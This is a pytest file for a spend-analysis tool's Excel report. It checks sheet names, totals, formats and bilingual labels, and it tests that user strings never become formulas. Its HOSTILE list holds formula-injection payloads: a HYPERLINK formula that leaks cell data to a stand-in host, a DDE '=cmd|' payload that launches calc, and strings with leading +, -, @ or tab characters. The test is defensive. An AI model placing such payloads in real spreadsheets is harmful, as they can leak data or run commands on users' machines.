"""The Excel report: sheets, totals, and no formula from user strings (issue 3, item 6)."""

from __future__ import annotations

import re
import zipfile
from pathlib import Path

import openpyxl
import pytest
from spend_fixtures import AS_OF, canonical_frame, write_rule_files

from spendanalys.io.result import RejectedRow
from spendanalys.spend.analysis import analyse_spend
from spendanalys.spend.categories import load_category_rules
from spendanalys.spend.factors import load_kpi, load_spend_factor_set
from spendanalys.spend.report import write_spend_report

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"Klicka")',
    "+1",
    "-2",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    "#N/A",
]
SHEETS = [
    "Sammanfattning",
    "Avtal",
    "Prioritet",
    "Kategorier",
    "Ej kopplat",
    "Exkluderat",
    "Faktorjämförelse",
    "Avvisade rader",
    "År",
    "Datakvalitet",
    "Metod och källor",
]


@pytest.fixture(scope="module")
def report(tmp_path_factory):
    folder = write_rule_files(tmp_path_factory.mktemp("rules"))
    rules = load_category_rules(data_dir=folder)
    factor_sets = [
        load_spend_factor_set(data_dir=folder, rules=rules),
        load_spend_factor_set(data_dir=folder, rules=rules, name="kopia"),
    ]
    contracts = canonical_frame(
        "contracts",
        [
            dict(
                agreement_id=f"A{i}",
                name=text,
                supplier=f"{text} AB",
                org_number=f"556000000{i}",
                cpv="72000000",
                end_date="2025-06-30",
                environmental_requirements=False,
            )
            for i, text in enumerate(HOSTILE)
        ],
    )
    invoices = canonical_frame(
        "invoices",
        [
            dict(agreement_id=f"A{i}", amount_sek=1000.0 * (i + 1), date="2022-05-01")
            for i in range(len(HOSTILE))
        ]
        # Same names as the agreements but another org number: never linked (name conflict).
        + [
            dict(supplier=text, org_number="5569999990", amount_sek=10.0, text=text, account=text)
            for text in HOSTILE
        ],
    )
    analysis = analyse_spend(
        contracts, invoices, rules, factor_sets, load_kpi(data_dir=folder), as_of=AS_OF
    )
    analysis.rejected.append(RejectedRow(file="=evil.csv", row=7, column="@x", reason="-reason"))
    path = tmp_path_factory.mktemp("out") / "rapport.xlsx"
    write_spend_report(analysis, path, rules=rules, factor_sets=factor_sets)
    return path, analysis


def test_sheets_and_totals(report):
    path, analysis = report
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == SHEETS
    summary = {
        row[0]: row[1] for row in wb["Sammanfattning"].iter_rows(values_only=True) if row and row[0]
    }
    # In MSEK and tonnes with one decimal, the cell holding the rounded value (issue 16).
    assert summary["Total utgift (MSEK)"] == round(analysis.totals["spend_sek"] / 1e6, 1)
    assert summary["Total utgift (MSEK)"] == 0.0  # 36 080 kr
    assert summary["Totala utsläpp (t CO2e)"] == 0.7  # 36 000 kr × 0.02 kg/kr = 720 kg
    assert summary["Utgift utan avtal (MSEK)"] == 0.0
    avtal = list(wb["Avtal"].iter_rows(values_only=True))
    # The dashboard's word for the agreement id (col.agreement_id), not a copy of its own.
    assert avtal[0][:3] == ("Rang", "Avtalsnr", "Avtalsnamn")
    header = avtal[0]
    assert avtal[1][header.index("Utgift (tkr)")] == round(
        analysis.agreements["spend_sek"].iloc[0] / 1000
    )
    assert len(avtal) == 1 + len(HOSTILE)
    assert [r[0] for r in avtal[1:]] == list(range(1, len(HOSTILE) + 1))
    assert wb["Avtal"].freeze_panes == "A2"
    assert wb["Sammanfattning"]._charts or _has_chart(path)
    method = [c for row in wb["Metod och källor"].iter_rows(values_only=True) for c in row if c]
    assert "fixture" in method  # the derivation of a factor that was used
    rejected = list(wb["Avvisade rader"].iter_rows(values_only=True))
    assert rejected[-1] == ("=evil.csv", 7, "@x", "-reason")


def _has_chart(path: Path) -> bool:
    with zipfile.ZipFile(path) as z:
        return any(n.startswith("xl/charts/") for n in z.namelist())


def test_no_user_string_became_a_formula(report):
    path, _ = report
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                xml = z.read(name).decode("utf-8")
                assert "<f>" not in xml and "<f " not in xml, name
                assert not re.search(r't="e"', xml), name  # "#N/A" must stay text, not an error
    wb = openpyxl.load_workbook(path)
    seen = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.startswith(
                    ("=", "+", "-", "@", "\t", "\r")
                ):
                    assert cell.quotePrefix, (ws.title, cell.coordinate, cell.value)
                    seen.add(cell.value)
    # The hostile names really reached the workbook (as text).
    assert '=HYPERLINK("http://example.invalid/?leak="&A1,"Klicka")' in seen
    assert {"+1", "-2", "@SUM(A1:A9)", "\t=1"} <= seen


def test_numbers_are_numbers_with_formats(report):
    path, _ = report
    ws = openpyxl.load_workbook(path)["Avtal"]
    header = [c.value for c in ws[1]]
    spend = ws.cell(row=2, column=header.index("Utgift (tkr)") + 1)
    assert isinstance(spend.value, float | int)
    assert spend.number_format == "#,##0"
    tonnes = ws.cell(row=2, column=header.index("Utsläpp (t CO2e)") + 1)
    assert tonnes.number_format == "#,##0.0" and tonnes.value == round(tonnes.value, 1)
    end = ws.cell(row=2, column=header.index("Slutdatum") + 1)
    assert end.is_date and end.number_format == "yyyy-mm-dd"


def test_the_year_sheets_in_swedish_and_in_english(report, tmp_path):
    """År and Datakvalitet in the catalogue's words: the undated invoice lines (the ones
    without a date above) as "utan datum" / "undated", English sheet names with ``--lang en``."""
    path, analysis = report
    years = list(openpyxl.load_workbook(path)["År"].iter_rows(values_only=True))
    labels = [r[0] for r in years if r]
    assert 2022 in labels and "utan datum" in labels
    assert ("År", "Utgift (MSEK)", "Utsläpp (t CO2e)", "Fakturarader") in [r[:4] for r in years]
    folder = write_rule_files(tmp_path / "rules")
    rules = load_category_rules(data_dir=folder)
    sets = [load_spend_factor_set(data_dir=folder, rules=rules)]
    english = tmp_path / "report.xlsx"
    write_spend_report(analysis, english, rules=rules, factor_sets=sets, lang="en")
    wb = openpyxl.load_workbook(english)
    assert "Years" in wb.sheetnames and "Data quality" in wb.sheetnames
    assert not {"År", "Datakvalitet"} & set(wb.sheetnames)
    rows = list(wb["Years"].iter_rows(values_only=True))
    assert "undated" in [r[0] for r in rows if r]
    assert ("Year", "Spend (MSEK)", "Emissions (t CO2e)", "Invoice lines") in [r[:4] for r in rows]


def test_a_grade_the_factor_file_does_not_state_and_an_undated_year_are_words():
    from spendanalys.i18n.sheets import code
    from spendanalys.spend.report_years import grades_text, year_label

    assert code("not stated", "grade", "sv") == "ej angiven"
    assert code("3", "grade", "en") == "3"
    assert grades_text("3 (60 %); not stated (40 %)", "sv") == "3 (60 %); ej angiven (40 %)"
    assert year_label("undated", "sv") == "utan datum"
    assert year_label("2024", "en") == 2024
